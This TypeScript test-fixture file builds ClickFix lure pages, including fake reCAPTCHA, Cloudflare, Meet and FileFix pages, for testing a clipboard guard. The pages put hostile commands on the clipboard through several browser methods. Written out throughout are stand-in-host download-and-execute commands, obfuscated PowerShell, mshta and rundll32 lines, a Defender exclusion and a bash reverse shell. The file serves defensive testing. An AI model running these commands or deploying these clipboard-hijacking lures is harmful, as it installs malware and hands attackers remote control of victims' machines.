import { htmlText } from './http-utils';
/**
 * ClickFix pages for the clipboard guard's tests, written from the public descriptions of the
 * campaigns (tests/fixtures/clickfix/SOURCES.md names the reports; hosts are made up): a fake
 * reCAPTCHA or Cloudflare check, a "fix this error" page, a Google Meet or Teams microphone fix,
 * FileFix's File Explorer address bar, macOS Terminal. Each puts its command on the clipboard
 * one of the ways a page can (writeText, write, a hidden textarea or selection copied with
 * execCommand, a copy event's data, the person's own copy swapped), at once, later, on load or
 * again and again, in the page or a frame, plain or disguised.
 */

export type Lure = 'recaptcha' | 'turnstile' | 'error' | 'meet' | 'filefix' | 'macos' | 'silent';
export type Path =
  | 'writeText'
  | 'write'
  | 'textarea'
  | 'hidden-selection'
  | 'copy-event'
  | 'items-add'
  | 'own-copy-swapped'
  | 'fresh-frame';
export type When = 'click' | 'later' | 'load' | 'again';
export type Frame = 'top' | 'cross-origin' | 'srcdoc';

export interface ClickFixPage {
  id: string;
  lure: Lure;
  path: Path;
  when: When;
  frame: Frame;
  command: string;
  /** Shown openly on the page, as some campaigns do beside their instructions. */
  shown?: 'input' | 'padded';
}

const POWERSHELL = 'powershell -w h -nop -c "iex(irm https://check-human.example/verify.ps1)"';
const MSHTA =
  "mshta https://captcha-check.example/v.hta # ✅ ''I am not a robot - reCAPTCHA Verification ID: 2165''";
const CMD_CURL =
  'cmd /c curl -s -o %TEMP%\\fix.exe https://cdn-fix.example/fix.exe & start %TEMP%\\fix.exe';
const FILEFIX = `powershell -c "iwr https://hr-portal.example/p.ps1 | iex"${' '.repeat(60)}# C:\\company\\internal-secure\\filedrive\\HRPolicy.docx`;
const MACOS = '/bin/bash -c "$(curl -fsSL https://macos-verify.example/install.sh)"';
const MACOS_BASE64 = 'echo "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvZCB8IGJhc2g=" | base64 -d | bash';
const OSASCRIPT = `osascript -e 'do shell script "curl -s https://macos-verify.example/a | sh"'`;
const MSIEXEC = 'msiexec /q /i https://teams-fix.example/audio-driver.msi';
const CARETS = 'p^o^w^e^r^s^h^e^l^l -w 1 i`e`x (iwr http://198.51.100.7/m.txt)';
const JOINED = '"pow"+"ershell" -c "i"+"ex(irm meet-fix.example/a)"';
const ENCODED = 'powershell -e JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==';
const SUBSTRINGS = '%comspec:~-16,1%%comspec:~-1%%comspec:~-13,1% /c mshta https://x-fix.example/a';
const FINGER = '%COMSPEC% /c f^i^n^g^e^r verify@captcha-check.example | c^m^d';
const RUNDLL = 'rundll32 \\\\captcha-check.example@SSL\\check\\verify.dll,Entry';
const CONHOST = 'conhost.exe --headless powershell -c "iwr https://x-fix.example/b | iex"';
const INVISIBLE = 'power\u200bshell -c "iex(irm https://check-human.example/z)"';
const CHARCODES =
  "powershell -c \"iex([string]::join('',([char]105,[char]119,[char]114)) + ' https://x-fix.example/c')\"";

export const CLICKFIX_PAGES: readonly ClickFixPage[] = [
  // Every way a page writes, from the fake reCAPTCHA.
  {
    id: 'recaptcha-writeText',
    lure: 'recaptcha',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: POWERSHELL,
  },
  {
    id: 'recaptcha-write',
    lure: 'recaptcha',
    path: 'write',
    when: 'click',
    frame: 'top',
    command: POWERSHELL,
  },
  {
    id: 'recaptcha-textarea',
    lure: 'recaptcha',
    path: 'textarea',
    when: 'click',
    frame: 'top',
    command: MSHTA,
  },
  {
    id: 'recaptcha-hidden-selection',
    lure: 'recaptcha',
    path: 'hidden-selection',
    when: 'click',
    frame: 'top',
    command: MSHTA,
  },
  {
    id: 'recaptcha-copy-event',
    lure: 'recaptcha',
    path: 'copy-event',
    when: 'click',
    frame: 'top',
    command: POWERSHELL,
  },
  {
    id: 'recaptcha-items-add',
    lure: 'recaptcha',
    path: 'items-add',
    when: 'click',
    frame: 'top',
    command: POWERSHELL,
  },
  {
    id: 'recaptcha-own-copy',
    lure: 'recaptcha',
    path: 'own-copy-swapped',
    when: 'click',
    frame: 'top',
    command: MSHTA,
  },
  {
    id: 'recaptcha-fresh-frame',
    lure: 'recaptcha',
    path: 'fresh-frame',
    when: 'click',
    frame: 'top',
    command: POWERSHELL,
  },
  // Cloudflare's check, with each disguise.
  {
    id: 'turnstile-mshta',
    lure: 'turnstile',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: MSHTA,
  },
  {
    id: 'turnstile-carets',
    lure: 'turnstile',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: CARETS,
  },
  {
    id: 'turnstile-joined',
    lure: 'turnstile',
    path: 'textarea',
    when: 'click',
    frame: 'top',
    command: JOINED,
  },
  {
    id: 'turnstile-encoded',
    lure: 'turnstile',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: ENCODED,
  },
  {
    id: 'turnstile-substrings',
    lure: 'turnstile',
    path: 'copy-event',
    when: 'click',
    frame: 'top',
    command: SUBSTRINGS,
  },
  {
    id: 'turnstile-finger',
    lure: 'turnstile',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: FINGER,
  },
  // Each line the finger server sends run by a for loop, no cmd before it (Unit 42, 2026-05).
  {
    id: 'turnstile-finger-loop',
    lure: 'turnstile',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: `start "" /min for /f "skip=8 delims=" %h in ('finger a1b2c3@finger.check-human.example') do call %h`,
  },
  // Another machine's share mapped to a drive, then a script run from it.
  {
    id: 'turnstile-share-run',
    lure: 'turnstile',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: 'net use Z: \\\\files.check-human.example@80\\verify /persistent:no && Z:\\verify.cmd',
  },
  // PowerShell's parameters behind en dashes, which it reads as its dash.
  {
    id: 'recaptcha-en-dash',
    lure: 'recaptcha',
    path: 'write',
    when: 'click',
    frame: 'top',
    command:
      'powershell \u2013w h \u2013e JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==',
  },
  {
    id: 'turnstile-rundll',
    lure: 'turnstile',
    path: 'write',
    when: 'click',
    frame: 'top',
    command: RUNDLL,
  },
  {
    id: 'turnstile-conhost',
    lure: 'turnstile',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: CONHOST,
  },
  {
    id: 'turnstile-invisible',
    lure: 'turnstile',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: INVISIBLE,
  },
  {
    id: 'turnstile-charcodes',
    lure: 'turnstile',
    path: 'textarea',
    when: 'click',
    frame: 'top',
    command: CHARCODES,
  },
  // A page's "fix this error", Windows Terminal (Win+X) and Run.
  {
    id: 'error-cmd-curl',
    lure: 'error',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: CMD_CURL,
  },
  {
    id: 'error-later',
    lure: 'error',
    path: 'writeText',
    when: 'later',
    frame: 'top',
    command: POWERSHELL,
  },
  {
    id: 'error-again',
    lure: 'error',
    path: 'writeText',
    when: 'again',
    frame: 'top',
    command: POWERSHELL,
  },
  {
    id: 'error-load',
    lure: 'error',
    path: 'writeText',
    when: 'load',
    frame: 'top',
    command: CMD_CURL,
  },
  {
    id: 'error-textarea-later',
    lure: 'error',
    path: 'textarea',
    when: 'later',
    frame: 'top',
    command: CMD_CURL,
  },
  // Google Meet's and Teams' microphone fix.
  {
    id: 'meet-msiexec',
    lure: 'meet',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: MSIEXEC,
  },
  { id: 'meet-joined', lure: 'meet', path: 'write', when: 'click', frame: 'top', command: JOINED },
  {
    id: 'meet-mshta-copy-event',
    lure: 'meet',
    path: 'copy-event',
    when: 'click',
    frame: 'top',
    command: MSHTA,
  },
  // FileFix: the path padded before the command's comment, pasted into File Explorer.
  {
    id: 'filefix-writeText',
    lure: 'filefix',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: FILEFIX,
  },
  {
    id: 'filefix-textarea',
    lure: 'filefix',
    path: 'textarea',
    when: 'click',
    frame: 'top',
    command: FILEFIX,
  },
  // macOS Terminal.
  {
    id: 'macos-bash-curl',
    lure: 'macos',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: MACOS,
  },
  {
    id: 'macos-base64',
    lure: 'macos',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: MACOS_BASE64,
  },
  {
    id: 'macos-osascript',
    lure: 'macos',
    path: 'textarea',
    when: 'click',
    frame: 'top',
    command: OSASCRIPT,
  },
  { id: 'macos-write', lure: 'macos', path: 'write', when: 'click', frame: 'top', command: MACOS },
  // A script fetched under its own name, then handed to a shell; a shell handed to another machine.
  {
    id: 'macos-fetch-then-run',
    lure: 'macos',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: 'wget https://check-human.example/update.sh; sh update.sh',
  },
  {
    id: 'linux-reverse-shell',
    lure: 'macos',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  },
  // A download kept in a variable, then evaluated; Defender told to look away (issue 76's last
  // families: nothing else in either command is a sign).
  {
    id: 'macos-variable-eval',
    lure: 'macos',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: 'c=$(curl -fsSL https://macos-verify.example/a); eval "$c"',
  },
  {
    id: 'turnstile-defender-exclusion',
    lure: 'turnstile',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: 'powershell -c Add-MpPreference -ExclusionPath $env:TEMP',
  },
  // A script spelt in octal escapes, printed into a shell.
  {
    id: 'macos-printf-escapes',
    lure: 'macos',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: "printf '\\143\\165\\162\\154 -s https://macos-verify.example/a | sh' | sh",
  },
  // In frames: a check widget from another site, and one the page wrote itself.
  {
    id: 'frame-recaptcha',
    lure: 'recaptcha',
    path: 'writeText',
    when: 'click',
    frame: 'cross-origin',
    command: POWERSHELL,
  },
  {
    id: 'frame-turnstile-textarea',
    lure: 'turnstile',
    path: 'textarea',
    when: 'click',
    frame: 'cross-origin',
    command: MSHTA,
  },
  {
    id: 'frame-meet-copy-event',
    lure: 'meet',
    path: 'copy-event',
    when: 'click',
    frame: 'cross-origin',
    command: CMD_CURL,
  },
  {
    id: 'frame-macos',
    lure: 'macos',
    path: 'writeText',
    when: 'click',
    frame: 'cross-origin',
    command: MACOS,
  },
  {
    id: 'frame-srcdoc',
    lure: 'recaptcha',
    path: 'writeText',
    when: 'click',
    frame: 'srcdoc',
    command: POWERSHELL,
  },
  {
    id: 'frame-srcdoc-write',
    lure: 'turnstile',
    path: 'write',
    when: 'click',
    frame: 'srcdoc',
    command: CARETS,
  },
  // Instructions drawn as a picture, the command never shown: nothing to read but the command.
  {
    id: 'silent-writeText',
    lure: 'silent',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: POWERSHELL,
  },
  {
    id: 'silent-macos',
    lure: 'silent',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: MACOS,
  },
  // The command shown openly, with the run-box steps beside it, or padded.
  {
    id: 'shown-with-steps',
    lure: 'recaptcha',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: POWERSHELL,
    shown: 'input',
  },
  {
    id: 'shown-padded',
    lure: 'silent',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: FILEFIX,
    shown: 'padded',
  },
  {
    id: 'shown-macos-steps',
    lure: 'macos',
    path: 'writeText',
    when: 'click',
    frame: 'top',
    command: MACOS,
    shown: 'input',
  },
  {
    id: 'shown-cmd-steps',
    lure: 'turnstile',
    path: 'textarea',
    when: 'click',
    frame: 'top',
    command: CMD_CURL,
    shown: 'input',
  },
];

/** Each lure's words and button, as the reports show them. */
const LURES: Record<Lure, { title: string; body: string; button: string }> = {
  recaptcha: {
    title: 'Verify you are human',
    body: `<p><b>I'm not a robot</b> — reCAPTCHA</p><div class="steps"><p>Verification steps</p><ol><li>Press Windows Button "⊞" + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol></div>`,
    button: "I'm not a robot",
  },
  turnstile: {
    title: 'Just a moment...',
    body: `<h1>example-shop.top</h1><p>Verify you are human by completing the action below.</p><div class="steps"><p>To better prove you are not a robot, please:</p><ol><li>Press &amp; hold the Windows Key + R.</li><li>In the verification window, press Ctrl + V.</li><li>Press Enter on your keyboard to finish.</li></ol><p>Performance &amp; security by Cloudflare · Ray ID: 8c1f0e3b2a4d</p></div>`,
    button: 'Verify',
  },
  error: {
    title: 'Error loading document',
    body: `<h1>The document could not be displayed</h1><p>The "Word Online" extension is not installed in your browser. To view the document offline, click "How to fix" and follow the steps.</p><ol><li>Click "How to fix"</li><li>Right-click the Windows icon (Win + X) and open Windows PowerShell (Admin)</li><li>Right-click in the window and press Enter</li></ol>`,
    button: 'How to fix',
  },
  meet: {
    title: 'Google Meet',
    body: `<h1>Your microphone and camera are blocked</h1><p>Meet could not reach your devices. To fix it: press Windows + R, paste with Ctrl + V, and press Enter, then rejoin the call.</p>`,
    button: 'Try fix',
  },
  filefix: {
    title: 'Shared file: HRPolicy.docx',
    body: `<h1>HRPolicy.docx was shared with you</h1><p>To open it, follow these steps:</p><ol><li>Copy the file path below</li><li>Open File Explorer and select the address bar (Ctrl + L)</li><li>Paste the file path and press Enter</li></ol><p><code>C:\\company\\internal-secure\\filedrive\\HRPolicy.docx</code></p><input type="file" aria-label="Open File Explorer">`,
    button: 'Copy file path',
  },
  macos: {
    title: 'Verify you are human',
    body: `<h1>Verification required</h1><p>For macOS users:</p><ol><li>Press ⌘ + Space and type Terminal</li><li>Press Return</li><li>Paste the command with ⌘ + V and press Return</li></ol>`,
    button: 'Copy',
  },
  silent: {
    title: 'Verification',
    body: `<h1>Verification</h1><p>Follow the steps in the picture.</p><img alt="" width="240" height="120" src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='240' height='120'%3E%3Crect width='240' height='120' fill='%23ddd'/%3E%3C/svg%3E">`,
    button: 'Continue',
  },
};

/** The page's own script: how it writes the command, and when. */
function writerScript({ path, when, command }: ClickFixPage): string {
  const cmd = JSON.stringify(command);
  const writes: Record<Path, string> = {
    writeText: `navigator.clipboard.writeText(${cmd}).catch(() => {});`,
    write: `navigator.clipboard.write([new ClipboardItem({ 'text/plain': new Blob([${cmd}], { type: 'text/plain' }) })]).catch(() => {});`,
    textarea: `const t = document.createElement('textarea'); t.value = ${cmd}; t.style.position = 'fixed'; t.style.left = '-9999px'; document.body.append(t); t.select(); document.execCommand('copy'); t.remove();`,
    'hidden-selection': `const d = document.createElement('div'); d.textContent = ${cmd}; d.style.cssText = 'position:absolute;left:-5000px;top:0;opacity:0'; document.body.append(d); const r = document.createRange(); r.selectNodeContents(d); getSelection().removeAllRanges(); getSelection().addRange(r); document.execCommand('copy'); getSelection().removeAllRanges(); d.remove();`,
    'copy-event': `const set = (e) => { e.clipboardData.setData('text/plain', ${cmd}); e.preventDefault(); }; document.addEventListener('copy', set, { once: true }); document.execCommand('copy');`,
    'items-add': `const add = (e) => { e.clipboardData.items.add(${cmd}, 'text/plain'); e.preventDefault(); }; document.addEventListener('copy', add, { once: true }); document.execCommand('copy');`,
    'own-copy-swapped': '',
    'fresh-frame': `const f = document.createElement('iframe'); f.style.display = 'none'; document.body.append(f); f.contentWindow.navigator.clipboard.writeText.call(navigator.clipboard, ${cmd}).catch(() => {});`,
  };
  if (path === 'own-copy-swapped')
    // The person copies the visible code; the page puts its command there instead.
    return `document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', ${cmd}); e.preventDefault(); });`;
  // Each write counted where the test can wait for it (an event, not a time).
  const write = `function write() { try { ${writes[path]} } finally { window.writes = (window.writes || 0) + 1; } }`;
  if (when === 'load') return `${write}\naddEventListener('load', () => setTimeout(write, 50));`;
  const trigger =
    when === 'later'
      ? 'setTimeout(write, 800)'
      : when === 'again'
        ? 'write(); setInterval(write, 400)'
        : 'write()';
  return `${write}\ndocument.getElementById('verify').addEventListener('click', () => { ${trigger}; });`;
}

const PAGE_CSS = `body { font: 16px/1.5 system-ui, sans-serif; margin: 0; padding: 40px; background: #f9f9f9; color: #222; }
.box { max-width: 520px; margin: auto; padding: 24px; background: #fff; border: 1px solid #ddd; border-radius: 6px; }
button { font-size: 16px; padding: 8px 16px; } .code { font-family: monospace; }`;

/** The widget: the lure's words, the command where it is shown, the button, the script. */
function widget(page: ClickFixPage): string {
  const lure = LURES[page.lure];
  const shown =
    page.shown === 'input'
      ? `<p>Verification code:</p><input readonly class="code" size="70" value="${htmlText(page.command)}">`
      : page.shown === 'padded'
        ? `<pre class="code">${htmlText(page.command)}</pre>`
        : '';
  const ownCopy =
    page.path === 'own-copy-swapped'
      ? '<p>Copy this verification code: <span id="code" class="code">XJ4-99-QA</span></p>'
      : '';
  return `<div class="box">${lure.body}${shown}${ownCopy}<button id="verify" type="button">${htmlText(lure.button)}</button></div><script>${writerScript(page)}</script>`;
}

const document = (title: string, body: string) =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${htmlText(title)}</title><style>${PAGE_CSS}</style></head><body>${body}</body></html>`;

/**
 * The page, or (with `frame`) the widget a frame of it shows. A cross-origin frame comes from
 * `otherOrigin` (the same server under another name, so another origin).
 */
export function clickFixPage(
  page: ClickFixPage,
  part: 'page' | 'frame',
  otherOrigin: string,
): string {
  const { title } = LURES[page.lure];
  if (part === 'frame' || page.frame === 'top') return document(title, widget(page));
  const frame =
    page.frame === 'srcdoc'
      ? `<iframe title="check" width="600" height="460" srcdoc="${htmlText(document(title, widget(page)))}"></iframe>`
      : `<iframe title="check" width="600" height="460" allow="clipboard-write" src="${otherOrigin}/guards/clickfix/${page.id}/frame.html"></iframe>`;
  return document(
    title,
    `<h1>example-shop.top</h1><p>Checking your browser before accessing the site.</p>${frame}`,
  );
}
